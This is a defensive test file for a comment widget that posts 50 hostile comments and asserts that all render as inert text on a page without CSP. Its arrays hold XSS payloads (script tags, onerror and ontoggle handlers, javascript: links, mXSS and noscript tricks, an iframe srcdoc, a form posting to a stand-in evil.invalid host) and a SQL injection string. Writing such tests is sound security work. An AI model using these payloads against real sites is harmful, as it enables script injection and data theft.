// 50 hostile comments through widget.js on a page with NO CSP of its own, so that only the widget stands
// between the payloads and the page: some posted through the API (the server sanitises them), some
// written straight into the database as raw HTML (as if the server's sanitiser had failed).
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { assertClean, hasChromium, NO_CHROMIUM, startHarness, W, widgetReady, type Harness } from './widget-harness.js';

const EVIL = 'http://evil.invalid';

const NAMES = [
  '<img src=x onerror="window.__pwned=\'name\'">',
  '"><script>window.__pwned="name2"</script>',
  "Robert'); DROP TABLE comments;--",
  '{title} {name} \u202Eevil',
  '<svg/onload=alert(1)>',
];

const BODIES = [
  '<script>window.__pwned="body"</script>',
  '[click](javascript:window.__pwned="md")',
  `<img src="${EVIL}/x.png" onerror="alert(1)">`,
  `![image](${EVIL}/img.png)`,
  '<a href="javascript:alert(1)">link</a> and https://fine.example/',
];

/** Raw HTML for the database's html column: what a broken server-side sanitiser could let through. */
const RAW_HTML = [
  `<img src="${EVIL}/raw.png" onerror="window.__pwned='raw-img'">`,
  '<script>window.__pwned="raw-script"</script><p>after script</p>',
  '<a href="javascript:window.__pwned=\'raw-link\'" onclick="window.__pwned=\'raw-click\'">click me</a>',
  `<svg onload="window.__pwned='svg'"><a href="javascript:alert(1)"><text>svg link</text></a><image href="${EVIL}/svg.png"/></svg>`,
  `<iframe src="${EVIL}/frame" srcdoc="<script>parent.__pwned='srcdoc'</script>"></iframe>`,
  '<style>:host, * { display: none !important }</style><p>styled away?</p>',
  `<p style="background:url(${EVIL}/bg.png)">inline style</p>`,
  `<form action="${EVIL}/steal"><input name=q><button>send</button></form>`,
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=\'mxss\'">',
  '<details open ontoggle="window.__pwned=\'toggle\'"><summary>s</summary></details>',
  '<noscript><p title="</noscript><img src=x onerror=window.__pwned=\'noscript\'>"></noscript>',
  `<base href="${EVIL}/"><meta http-equiv="refresh" content="0;url=${EVIL}/">`,
  `<object data="${EVIL}/x.swf"></object><embed src="${EVIL}/x.swf">`,
  '<a href="https://ok.example/" target="_blank" onmouseover="window.__pwned=\'hover\'">ok link</a>',
  '<template><img src=x onerror="window.__pwned=\'template\'"></template><p>tpl</p>',
];

const ALLOWED_TAGS = new Set(['P', 'BR', 'EM', 'STRONG', 'CODE', 'PRE', 'BLOCKQUOTE', 'UL', 'OL', 'LI', 'A']);

describe('widget.js renders 50 hostile comments inertly', { skip: hasChromium() ? false : NO_CHROMIUM }, () => {
  let h: Harness;
  before(async () => {
    h = await startHarness();
  });
  after(() => h?.stop());

  test('no script runs, no dialog opens, nothing loads from another host, and every comment is shown as text', async () => {
    const url = h.widgetPage('/t/hostile', { 'data-title': '<img src=x onerror=alert(1)>' }, { noCsp: true });
    const ids: number[] = [];
    for (let i = 0; i < 50; i++) {
      ids.push(
        await h.post({
          article: '/t/hostile',
          articleUrl: url,
          name: `${NAMES[i % NAMES.length]} ${i}`,
          email: `hostile${i}@example.org`,
          url: i % 3 === 0 ? `https://site.example/"><script>alert(${i})</script>` : undefined,
          body: `${BODIES[i % BODIES.length]} #${i}`,
        }),
      );
    }
    const rawIds = ids.slice(0, RAW_HTML.length);
    rawIds.forEach((id, i) => h.run('update comments set html = ? where id = ?', RAW_HTML[i], id));
    // A website a validating server would never store, a foreign one, and an avatar path that tries to leave the server.
    h.run("update comments set url = 'javascript:window.__pwned=1' where id = ?", ids[20]);
    h.run(`update comments set url = '${EVIL}/' where id = ?`, ids[21]);
    h.run("update comments set avatar = '//evil.invalid/a' where id = ?", ids[22]);

    const w = await h.open(url);
    const { page } = w;
    await widgetReady(page);
    // Give any payload a chance to fire: hover and click every link and button inside comment texts.
    for (const link of await page.locator(`${W} .x a`).all()) await link.hover();
    await page.waitForTimeout(300);

    assert.equal(await page.locator(`${W} #comments-title`).textContent(), '50 Responses to “\u2068<img src=x onerror=alert(1)>\u2069”');
    assert.equal(await page.locator(`${W} ol.comment-list > li`).count(), 50);
    assert.equal(await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned), undefined, 'no payload ran');

    const report = await page.evaluate(() => {
      const root = document.querySelector('[data-parley]')?.shadowRoot;
      const all = Array.from(root?.querySelectorAll('*') ?? []);
      return {
        handlers: all.flatMap((el) => el.getAttributeNames().filter((n) => /^on/i.test(n)).map((n) => `${el.tagName} ${n}`)),
        styled: all.filter((el) => el.hasAttribute('style')).map((el) => el.tagName),
        contentTags: [...new Set(Array.from(root?.querySelectorAll('.x *') ?? []).map((el) => el.tagName))],
        hrefs: all.filter((el) => el.hasAttribute('href')).map((el) => el.getAttribute('href') ?? ''),
        srcs: all.filter((el) => el.hasAttribute('src')).map((el) => el.getAttribute('src') ?? ''),
        dangerous: Array.from(root?.querySelectorAll('ol.comment-list *') ?? []).filter((el) => /^(SCRIPT|IFRAME|OBJECT|EMBED|FORM|BASE|META|SVG|MATH|TEMPLATE|STYLE)$/i.test(el.tagName)).map((el) => el.tagName),
        names: Array.from(root?.querySelectorAll('.au') ?? []).map((el) => el.textContent ?? ''),
      };
    });
    assert.deepEqual(report.handlers, []);
    assert.deepEqual(report.styled, []);
    assert.deepEqual(report.dangerous, []);
    for (const tag of report.contentTags) assert.ok(ALLOWED_TAGS.has(tag), `<${tag}> inside a comment`);
    for (const href of report.hrefs) assert.match(href, /^(https?:|mailto:)/, `href ${href}`);
    for (const src of report.srcs) assert.ok(src.startsWith(`${h.parleyOrigin}/avatars/`), `src ${src}`);
    // Any http(s) website is only ever a nofollow link, never something loaded.
    assert.equal(await page.locator(`${W} #comment-${ids[21]} a.au`).getAttribute('rel'), 'nofollow ugc');
    // Exactly as stored (the server normalises names, e.g. drops bidi overrides).
    for (const { name } of h.sql<{ name: string }>("select name from comments where article_id = (select id from articles where key = '/t/hostile')")) {
      assert.ok(report.names.includes(name), `name ${JSON.stringify(name)} shown exactly as text`);
    }
    assert.ok(report.names.includes(`${NAMES[0]} 0`));

    // The raw payloads survive only as harmless text.
    assert.match((await page.locator(`${W} #comment-${rawIds[1]} .x`).textContent()) ?? '', /after script/);
    assert.doesNotMatch((await page.locator(`${W} #comment-${rawIds[1]} .x`).textContent()) ?? '', /__pwned/);
    assert.equal(await page.locator(`${W} #comment-${rawIds[2]} .x a`).getAttribute('href'), null, 'a javascript: link loses its href');
    assert.equal(await page.locator(`${W} #comment-${rawIds[13]} .x a`).getAttribute('href'), 'https://ok.example/');
    assert.equal(await page.locator(`${W} #comment-${rawIds[13]} .x a`).getAttribute('rel'), 'nofollow ugc noopener');
    assert.equal(await page.locator(`${W} #comment-${ids[20]} .au`).evaluate((el) => el.tagName), 'SPAN', 'a javascript: website is not linked');

    // Clicking the neutralised javascript: link does nothing.
    await page.locator(`${W} #comment-${rawIds[2]} .x a`).click();
    await page.waitForTimeout(100);
    assert.equal(await page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned), undefined);
    assert.equal(page.url(), url);
    // The tampered avatar stayed on the Parley server (which answers it 404); nothing else failed.
    assert.ok(w.requests.includes(`${h.parleyOrigin}/avatars///evil.invalid/a.svg`));
    await assertClean(w, h, [404]);
    await w.context.close();
  });
});
